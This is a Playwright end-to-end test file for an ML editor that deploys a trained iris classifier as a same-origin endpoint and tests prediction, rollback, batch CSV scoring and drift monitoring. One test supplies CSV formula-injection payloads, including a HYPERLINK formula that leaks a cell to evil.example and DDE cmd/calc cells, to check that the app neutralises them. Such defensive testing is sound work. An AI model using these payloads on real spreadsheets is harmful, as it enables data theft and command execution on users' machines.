import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { expect, openEditor, test } from './fixtures';
import { importIrisWithDeploy } from './serving-helpers';

interface GraphFile {
  graph: { name: string; nodes: { id: string; type: string; version?: number; params: Record<string, unknown> }[]; edges: { id: string; from: { node: string; port: string }; to: { node: string; port: string } }[] };
  layout: { positions: Record<string, { x: number; y: number }> };
}

/** The bundled iris example, changed by `edit`, imported as a new graph. */
async function importIris(page: Page, edit: (file: GraphFile) => void): Promise<void> {
  const file = JSON.parse(await readFile(new URL('../public/examples/iris-mlp.json', import.meta.url), 'utf8')) as GraphFile;
  file.graph.name = 'Iris serving';
  edit(file);
  await page.getByTestId('import-file').setInputFiles({ name: 'iris-serving.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
  await expect(page.getByTestId('graph-name')).toHaveValue('Iris serving');
}

/**
 * Train the iris example, deploy it as an endpoint, and use it the ways a client would:
 * the form, batch scoring, plain fetch from the page (same-origin, answered by the service
 * worker), a bad request, then shifted traffic that the monitor must flag.
 */
test('deploy a trained model, predict through the same-origin endpoint, batch-score, and see replayed drift flagged', async ({ page }) => {
  test.setTimeout(300_000);
  await openEditor(page);
  await importIris(page, (file) => {
    file.graph.nodes.find((n) => n.type === 'train.fit')!.params.saveToRegistry = true;
  });
  await page.getByTestId('run').click();
  await expect(page.getByTestId('run-status')).toHaveText('Run finished', { timeout: 180_000 });

  // Deploy from the Endpoints tab.
  await page.getByTestId('tab-endpoints').click();
  const panel = page.getByTestId('endpoints-panel');
  await expect(panel.getByTestId('endpoint-worker')).toHaveAttribute('data-state', 'ready');
  await panel.getByLabel('Endpoint name').fill('iris');
  await panel.getByTestId('deploy-form').getByRole('button', { name: 'Deploy' }).click();
  // Deploying opens the full-size Serving view on the new endpoint.
  const view = page.getByTestId('serving-view');
  await expect(page.getByTestId('view-serving')).toHaveAttribute('aria-selected', 'true');
  const endpoint = view.getByTestId('endpoint-iris');
  await expect(endpoint.getByTestId('endpoint-versions')).toContainText('live');

  // One record through the form: a typical setosa.
  const form = endpoint.getByTestId('endpoint-predict-form');
  const inputs = form.locator('input');
  await expect(inputs).toHaveCount(4);
  const setosa = [5.1, 3.5, 1.4, 0.2];
  for (let i = 0; i < 4; i++) await inputs.nth(i).fill(String(setosa[i]));
  await form.getByRole('button', { name: 'Predict' }).click();
  await expect(endpoint.getByTestId('endpoint-prediction-value')).toHaveText('setosa');
  await expect(endpoint.getByTestId('endpoint-prediction')).toContainText('virginica');

  // The same endpoint from plain fetch, as any same-origin client would call it.
  const answer = await page.evaluate(async () => {
    const response = await fetch('/api/endpoints/iris/predict', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ 'sepal length (cm)': 6.7, 'sepal width (cm)': 3.0, 'petal length (cm)': 5.2, 'petal width (cm)': 2.3 }),
    });
    return { status: response.status, type: response.headers.get('content-type'), body: await response.json() };
  });
  expect(answer.status).toBe(200);
  expect(answer.type).toMatch(/application\/json/);
  expect(answer.body.model.name).toBeTruthy();
  expect(answer.body.predictions[0].prediction).toBe('virginica');
  const probabilities = Object.values(answer.body.predictions[0].probabilities as Record<string, number>);
  expect(probabilities.reduce((a, b) => a + b, 0)).toBeCloseTo(1, 4);

  // A bad request: 4xx with a message per field, and the worker keeps serving.
  const bad = await page.evaluate(async () => {
    const response = await fetch('/api/endpoints/iris/predict', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ 'sepal length (cm)': 'long', 'petal width': 1 }) });
    return { status: response.status, body: await response.json() };
  });
  expect(bad.status).toBeGreaterThanOrEqual(400);
  expect(bad.status).toBeLessThan(500);
  expect(bad.body.fields['sepal length (cm)']).toMatch(/number/);
  expect(bad.body.fields['petal length (cm)']).toBeTruthy();
  const health = await page.evaluate(async () => (await fetch('/api/endpoints/iris/health')).json());
  expect(health).toMatchObject({ status: 'ok', logged: 2 });

  // A second version goes live; rolling back makes v1 live again, and the endpoint follows.
  await view.getByTestId('deploy-form').getByLabel('Endpoint name').fill('iris');
  await view.getByTestId('deploy-form').getByRole('button', { name: 'Deploy' }).click();
  await expect(endpoint.locator('[data-live="true"]')).toContainText('v2');
  expect((await page.evaluate(async () => (await fetch('/api/endpoints/iris/health')).json())).model.version).toMatch(/^2-/);
  await endpoint.getByRole('button', { name: 'Roll back' }).click();
  await expect(endpoint.locator('[data-live="true"]')).toContainText('v1');
  expect((await page.evaluate(async () => (await fetch('/api/endpoints/iris/health')).json())).model.version).toMatch(/^1-/);

  // Batch scoring of a small CSV, downloaded as CSV.
  const csv = ['sepal length (cm),sepal width (cm),petal length (cm),petal width (cm)', '5.0,3.4,1.5,0.2', '6.9,3.1,5.4,2.1', '5.8,2.7,4.1,1.0'].join('\n');
  await endpoint.getByTestId('batch-file').setInputFiles({ name: 'few.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  const download = page.waitForEvent('download');
  await endpoint.getByTestId('batch-download').click();
  const file = await (await download).path();
  const scored = (await readFile(file, 'utf8')).trim().split('\n');
  expect(scored[0]).toBe('sepal length (cm),sepal width (cm),petal length (cm),petal width (cm),prediction,p(setosa),p(versicolor),p(virginica)');
  expect(scored.length).toBe(4);
  expect(scored[1]).toMatch(/^5,3\.4,1\.5,0\.2,setosa,/);
  expect(scored[2]).toMatch(/,virginica,/);

  // Cells a spreadsheet would run as formulas come back neutralised (OWASP: a leading '), plain negative numbers stay numbers.
  const hostile = [
    'sepal length (cm),sepal width (cm),petal length (cm),petal width (cm),note,offset,=SUM(1+1)',
    '5.0,3.4,1.5,0.2,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5,a',
    '6.9,3.1,5.4,2.1,+1+cmd|\' /C calc\'!A0,-0.5,b',
    '5.8,2.7,4.1,1.0,-2+3+cmd|\' /C calc\'!A0,3,c',
    '5.1,3.5,1.4,0.2,@SUM(1+1),-1,d',
  ].join('\n');
  await endpoint.getByTestId('batch-file').setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(hostile) });
  await expect(endpoint.getByTestId('batch-download')).toHaveAttribute('download', 'hostile-iris-predictions.csv');
  const hostileDownload = page.waitForEvent('download');
  await endpoint.getByTestId('batch-download').click();
  const neutralised = (await readFile(await (await hostileDownload).path(), 'utf8')).trim().split('\n');
  expect(neutralised[0]).toBe(`sepal length (cm),sepal width (cm),petal length (cm),petal width (cm),note,offset,"'=SUM(1+1)",prediction,p(setosa),p(versicolor),p(virginica)`);
  expect(neutralised[1]).toMatch(/^5,3\.4,1\.5,0\.2,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""click""\)",-5,a,setosa,/);
  expect(neutralised[2]).toMatch(/^6\.9,3\.1,5\.4,2\.1,"'\+1\+cmd\|' \/C calc'!A0",-0\.5,b,virginica,/);
  expect(neutralised[3]).toMatch(/^5\.8,2\.7,4\.1,1,"'-2\+3\+cmd\|' \/C calc'!A0",3,c,/);
  expect(neutralised[4]).toMatch(/^5\.1,3\.5,1\.4,0\.2,"'@SUM\(1\+1\)",-1,d,setosa,/);

  // Replay every iris row with petal length moved by +2 standard deviations: the monitor flags it.
  const replay = endpoint.getByTestId('replay-form');
  await replay.getByLabel('Partition (seeded 70/15/15)').selectOption('all');
  await replay.getByLabel('Rate (rows per second)').fill('100');
  await replay.getByLabel('Shift', { exact: true }).selectOption('petal length (cm)');
  await replay.getByLabel('Shift amount').fill('+2std');
  await replay.getByRole('button', { name: 'Replay' }).click();
  await expect(endpoint.getByTestId('replay-progress')).toHaveText(/^150\/150 sent · 150 ok · 0 failed$/, { timeout: 60_000 });

  const monitor = endpoint.getByTestId('endpoint-monitor');
  await monitor.getByLabel('Window').selectOption({ label: '1 min' });
  await expect(monitor.getByTestId('monitor-status')).toHaveAttribute('data-status', /amber|red/);
  // 2 single predictions, 3 + 4 batch-scored rows and 150 replayed ones.
  await expect(monitor.getByTestId('monitor-requests')).toContainText('159 requests');
  await expect(monitor.getByTestId('monitor-requests')).toContainText('p95');
  await expect(monitor.locator('[data-feature="petal length (cm)"]')).toHaveAttribute('data-status', /amber|red/);
  await expect(monitor.locator('[data-feature="sepal width (cm)"]')).toHaveAttribute('data-status', 'green');
  await expect(monitor.getByTestId('monitor-chart')).toBeVisible();
  await expect(monitor.getByTestId('monitor-predictions')).toContainText('setosa');

  // After a reload the endpoint answers again, from IndexedDB, with its log intact.
  await page.reload();
  await expect(page.getByTestId('app')).toHaveAttribute('data-ready', 'true');
  const after = await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
    const health = await (await fetch('/api/endpoints/iris/health')).json();
    const list = await (await fetch('/api/endpoints')).json();
    return { health, list };
  });
  expect(after.health).toMatchObject({ status: 'ok', logged: 159, logFailures: 0 });
  expect(after.list.endpoints).toEqual([expect.objectContaining({ name: 'iris', live: 1, versions: 2, url: '/api/endpoints/iris/predict' })]);
});

test('a Deploy node in the graph makes a live endpoint, and a Monitor node reports its traffic', async ({ page }) => {
  test.setTimeout(300_000);
  await openEditor(page);
  await importIrisWithDeploy(page);
  await expect(page.getByTestId('node-monitor')).toBeVisible();
  await page.getByTestId('run').click();
  await expect(page.getByTestId('run-status')).toHaveText('Run finished', { timeout: 180_000 });
  await expect(page.getByTestId('node-deploy').getByTestId('node-summary')).toHaveText('live: /api/endpoints/iris-graph v1');
  await expect(page.getByTestId('node-monitor').getByTestId('node-summary')).toContainText('0 requests');

  const statuses = await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
    const out: number[] = [];
    for (let i = 0; i < 40; i++) {
      const response = await fetch('/api/endpoints/iris-graph/predict', {
        method: 'POST',
        body: JSON.stringify({ 'sepal length (cm)': 5 + (i % 10) / 5, 'sepal width (cm)': 3, 'petal length (cm)': 1.5 + (i % 5), 'petal width (cm)': 0.2 + (i % 4) / 2 }),
      });
      out.push(response.status);
    }
    return out;
  });
  expect(statuses).toEqual(new Array(40).fill(200));

  // The monitor reads live traffic, so it runs again (the trained model stays cached).
  await page.getByTestId('run').click();
  await expect(page.getByTestId('run-status')).toHaveText('Run finished', { timeout: 60_000 });
  await expect(page.getByTestId('node-monitor').getByTestId('node-summary')).toContainText('40 requests');
  await expect(page.getByTestId('node-deploy').getByTestId('node-summary')).toHaveText('live: /api/endpoints/iris-graph v1');
  await page.getByTestId('node-monitor').locator('.pnode-header').click();
  await expect(page.getByRole('heading', { name: /^Feature drift/ })).toBeVisible();
  await expect(page.getByRole('heading', { name: /^Endpoint monitor/ })).toBeVisible();
});
